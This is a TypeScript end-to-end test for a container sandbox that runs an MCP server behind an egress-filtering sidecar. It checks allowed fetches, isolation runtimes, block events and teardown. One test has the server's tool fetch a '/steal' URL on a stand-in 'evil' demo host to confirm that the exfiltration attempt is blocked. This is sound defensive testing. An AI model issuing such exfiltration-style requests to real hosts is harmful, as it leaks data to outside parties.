import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_ALLOWED_HOST, DEMO_EVIL_HOST, startDemoUpstreams, type DemoUpstreams } from "../../src/cli/demo-upstreams.js";
import { ISOLATIONS, type Isolation } from "../../src/core/policy/policy-schema.js";
import type { SandboxEvent } from "../../src/runtime/sandbox-events.js";
import { DockerTestEnv, ROOT, waitFor } from "./support/docker-test-env.js";
import { ensureCliSidecarImage, writeRunConfig } from "./support/hangar-cli.js";
import { HangarRunSession } from "./support/hangar-run-session.js";

/**
 * `hangar run policies/everything.yaml` end to end: the real CLI process, spawned and driven
 * by the MCP SDK's stdio client exactly as Claude Desktop or Cursor would, around the real
 * @modelcontextprotocol/server-everything. Its gzip-file-as-resource tool fetches with Node's
 * fetch, which ignores HTTP_PROXY, so only the transparent path can carry it. The upstreams
 * are ours (images/demo-upstream), on this file's own egress network.
 */

type ContentItem = { type: string; text?: string; resource?: { blob?: string } };

let env: DockerTestEnv;
let upstreams: DemoUpstreams;
let session: HangarRunSession;
let eventsFile: string;

async function fileEvents(): Promise<SandboxEvent[]> {
  const text = await readFile(eventsFile, "utf8").catch(() => "");
  return text
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as SandboxEvent);
}

// Once per isolation backend: server-everything under runc, then under gVisor (runsc).
describe.each(ISOLATIONS)("isolation %s", (isolation: Isolation) => {
  beforeAll(async () => {
    env = await DockerTestEnv.create();
    const sidecarImage = await ensureCliSidecarImage(env.engine);
    const egress = await env.egressNetwork();
    // Labelled with this file's run: env.cleanup() removes them whatever happens.
    upstreams = await startDemoUpstreams(env.engine, { network: egress.name, run: env.run });
    // The sidecar asks this file's resolver, never the engine's.
    await env.registerUpstreams([upstreams.allowed, upstreams.evil]);
    const state = await env.stateRoot();
    // Through hangar.yaml's runtime.isolation: the operator-wide setting is what runs here.
    const config = await writeRunConfig(join(state, "hangar.yaml"), { egress, sidecarImage, isolation });
    eventsFile = join(state, "events.jsonl");
    session = await HangarRunSession.start({ engine: env.engine, policy: join(ROOT, "policies/everything.yaml"), config, events: eventsFile });
  }, 600_000);

  afterAll(async () => {
    await session?.[Symbol.asyncDispose]();
    await upstreams?.stop();
    await env?.cleanup();
    expect(await env.leftovers()).toEqual([]);
  }, 120_000);

  describe("hangar run policies/everything.yaml, driven by the MCP SDK's stdio client", () => {
    it("completes initialize, tools/list and echo", async () => {
      expect(client().getServerVersion()?.name).toMatch(/everything/i);
      const { tools } = await client().listTools();
      expect(tools.map((t) => t.name)).toEqual(expect.arrayContaining(["echo", "gzip-file-as-resource"]));
      const echo = await client().callTool({ name: "echo", arguments: { message: "through hangar run" } });
      expect((echo.content as ContentItem[])[0]?.text).toContain("through hangar run");
      // stdout carries only MCP; progress went to stderr.
      expect(session.stderrLines.join("\n")).toMatch(/^hangar: everything is running \(run [0-9a-f]+, sidecar /m);
    });

    it(`runs the server under ${isolation === "gvisor" ? "runsc" : "runc"} and the sidecar under runc`, async () => {
      const { run } = await session.sandbox();
      const runtimeOf = async (role: string): Promise<string | undefined> => {
        const [c] = await env.engine.listContainers({ labels: [`hangar.run=${run}`, `hangar.role=${role}`] });
        return (await env.engine.inspectContainer(c!.id))?.ociRuntime;
      };
      expect(await runtimeOf("server")).toBe(isolation === "gvisor" ? "runsc" : "runc");
      expect(await runtimeOf("sidecar")).toBe("runc");
    });

    it("fetches a declared upstream of ours over HTTP with Node's fetch: the transparent path, dialled by the sidecar", async () => {
      const before = await upstreams.allowed.count();
      const result = await client().callTool({
        name: "gzip-file-as-resource",
        arguments: { name: "hello.txt.gz", data: `http://${DEMO_ALLOWED_HOST}/hello.txt`, outputType: "resource" },
      });
      expect(result.isError, JSON.stringify(result.content)).not.toBe(true);
      const blob = (result.content as ContentItem[])[0]?.resource?.blob;
      expect(gunzipSync(Buffer.from(blob ?? "", "base64")).toString("utf8")).toBe(`hello from ${DEMO_ALLOWED_HOST}\n`);
      expect(await upstreams.allowed.count()).toBe(before + 1);

      // The request came from the sidecar's address on the egress network, never from the server.
      const { run } = await session.sandbox();
      const [sidecar] = await env.engine.listContainers({ labels: [`hangar.run=${run}`, "hangar.role=sidecar"] });
      const sidecarIp = (await env.engine.inspectContainer(sidecar!.id))?.addresses[(await env.egressNetwork()).name];
      expect((await upstreams.allowed.requests()).at(-1)).toMatchObject({ host: DEMO_ALLOWED_HOST, path: "/hello.txt", from: sidecarIp });

      const decided = await waitFor(async () => (await fileEvents()).find((e) => e.type === "egress" && e.phase === "decide" && e.name === DEMO_ALLOWED_HOST));
      expect(decided).toMatchObject({ verdict: "allow", port: 80, path: "transparent", ip: upstreams.allowed.ip });
    });

    it("an undeclared upstream of ours, reachable from the egress network, receives nothing; a block event in --events names it", async () => {
      // Running and reachable: the host sits on the egress bridge and reaches it there.
      const direct = await fetch(`http://${upstreams.evil.ip}/reachable`, { signal: AbortSignal.timeout(5000) });
      expect(await direct.text()).toBe(`hello from ${DEMO_EVIL_HOST}\n`);
      const before = await upstreams.evil.count();

      const attempt = await client()
        .callTool({ name: "gzip-file-as-resource", arguments: { name: "steal.gz", data: `http://${DEMO_EVIL_HOST}/steal`, outputType: "resource" } })
        .catch((err: Error) => ({ isError: true, content: [{ type: "text", text: err.message }] }));
      expect(attempt.isError).toBe(true);
      expect(await upstreams.evil.count()).toBe(before);

      const blocked = await waitFor(async () => (await fileEvents()).find((e) => (e.type === "dns" || e.type === "egress") && e.verdict === "block" && e.name === DEMO_EVIL_HOST));
      expect(blocked).toMatchObject({ type: "dns", server: "everything", reasons: expect.arrayContaining(["undeclared-host"]) });
    });

    it("closing stdin tears everything down: the CLI exits 0 and no container or network of the run remains", async () => {
      expect((await session.remaining()).length).toBeGreaterThanOrEqual(3); // sidecar, server, internal network
      session.endStdin();
      const exit = await session.waitForExit(30_000);
      expect(exit).toEqual({ code: 0, signal: null });
      const stderr = session.stderrLines.join("\n");
      // EOF did it, not a signal.
      expect(stderr).not.toMatch(/SIG(TERM|INT|HUP): stopping/);
      expect(stderr).toMatch(/^hangar: everything stopped; sandbox removed$/m);
      expect(await session.remaining()).toEqual([]);
      const lifecycle = (await fileEvents()).flatMap((e) => (e.type === "runtime" ? [e.action] : []));
      expect(lifecycle).toEqual(expect.arrayContaining(["sandbox-started", "sandbox-stopped"]));
    });
  });
});

function client(): HangarRunSession["client"] {
  return session.client;
}
